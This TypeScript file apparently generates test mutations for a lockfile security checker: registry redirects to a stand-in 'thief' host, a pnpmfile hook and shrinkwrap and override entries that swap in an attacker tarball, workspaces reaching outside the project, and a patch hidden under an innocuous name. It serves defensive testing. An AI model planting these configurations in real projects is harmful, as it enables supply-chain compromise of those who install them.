/** Makes files beside a lockfile and its manifests, and says what each makes a manager do. */
import type { Files } from './files.ts'
import type { Mutation } from './mutations.ts'
import type { Surroundings } from './values.ts'

export function besideMutations(files: Files, { thief }: Surroundings): readonly Mutation[] {
  const evil = `${thief}/leaf/-/leaf-1.0.0.tgz`
  const hook = `module.exports = { hooks: { readPackage: (p) => (p.name === 'lib' ? { ...p, dependencies: { leaf: '${evil}' } } : p), afterAllResolved: (l) => l } }\n`
  const added: readonly (readonly [string, string])[] = [
    ['.npmrc', `registry=${thief}/\n`],
    ['.npmrc', `@made:registry=${thief}/\n`],
    ['.npmrc', 'legacy-peer-deps=true\n'],
    ['.npmrc', 'prefix=local\n'],
    ['.npmrc', 'replace-registry-host=always\n'],
    ['packages/room/.npmrc', `registry=${thief}/\n`],
    ['.yarnrc', `registry "${thief}"\n`],
    ['.yarnrc', `yarn-offline-mirror "./mirror"\n`],
    ['.yarnrc', `--install.production true\n`],
    ['.yarnrc.yml', `npmRegistryServer: "${thief}"\n`],
    ['.yarnrc.yml', `npmScopes:\n  made:\n    npmRegistryServer: "${thief}"\n`],
    ['.yarnrc.yml', `packageExtensions:\n  "lib@*":\n    dependencies:\n      other: "*"\n`],
    ['bunfig.toml', `[install]\nregistry = "${thief}/"\n`],
    ['bunfig.toml', `[install.scopes]\nmade = "${thief}/"\n`],
    ['.pnpmfile.cjs', hook],
    ['npm-shrinkwrap.json', (files['package-lock.json'] ?? '{}').replaceAll(/"resolved": "[^"]*leaf-1[^"]*"/g, `"resolved": "${evil}"`)],
    ['NPM-SHRINKWRAP.JSON', (files['package-lock.json'] ?? '{}').replaceAll(/"resolved": "[^"]*leaf-1[^"]*"/g, `"resolved": "${evil}"`)],
    ['local/package-lock.json', '{ "lockfileVersion": 3, "packages": {} }'],
    [
      'local/npm-shrinkwrap.json',
      `{ "lockfileVersion": 3, "packages": { "": {}, "node_modules/leaf": { "version": "1.0.0", "resolved": "${evil}" } } }`,
    ],
    ['node_modules/leaf/package.json', '{ "name": "leaf", "version": "1.0.0" }\n'],
    ['node_modules/leaf/index.js', 'committed\n'],
    ['packages/second/package.json', `{ "name": "second", "version": "1.0.0", "dependencies": { "other": "${evil}" } }\n`],
    ['packages/second/package.json', '{ "name": "second", "version": "1.0.0", "dependencies": { "other": "^1.0.0" } }\n'],
    ['packages/leaf/package.json', '{ "name": "leaf", "version": "1.0.0" }\n'],
    ['pnpm-workspace.yaml', `packages:\n  - packages/*\noverrides:\n  leaf: "${evil}"\n`],
    ['pnpm-workspace.yaml', `packages:\n  - packages/*\n  - local\n`],
    ['pnpm-workspace.yaml', `packages:\n  - packages/*\nconfigDependencies:\n  other: "1.0.0+sha512-AAAA"\n`],
  ]
  const comesIn = added.map(([file, text]) => ({ what: `${file} comes in: ${text.trim()}`, files: { ...files, [file]: text } }))
  return [...comesIn, ...manifestMutations(files)].map((one) => ({ kind: 'beside', ...one }))
}

/** What a manifest alone can ask for, and no change of one of its words. */
function manifestMutations(files: Files): readonly Omit<Mutation, 'kind'>[] {
  const manifest = JSON.parse(files['package.json'] ?? '{}') as Readonly<Record<string, unknown>>
  const patch = `--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-module.exports = 'leaf 1.0.0'\n+patched\n`
  const made: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
    ['workspaces lead out of the project', { workspaces: ['packages/*', '../outside'] }],
    ['workspaces lead out of the project by steps', { workspaces: ['packages/*/../../../outside'] }],
    ['a patch under any name', { resolutions: { 'leaf@npm:^1.0.0': 'patch:leaf@npm%3A1.0.0#~/docs/notes.txt' } }],
    [
      'a patch of bun and pnpm under any name',
      { patchedDependencies: { 'leaf@1.0.0': 'docs/notes.txt' }, pnpm: { patchedDependencies: { 'leaf@1.0.0': 'docs/notes.txt' } } },
    ],
    ['every version is to be one alone', { flat: true }],
  ]
  return made.map(([what, more]) => ({
    what: `package.json: ${what}`,
    files: { ...files, 'docs/notes.txt': patch, 'package.json': `${JSON.stringify({ ...manifest, ...more }, null, 2)}\n` },
  }))
}
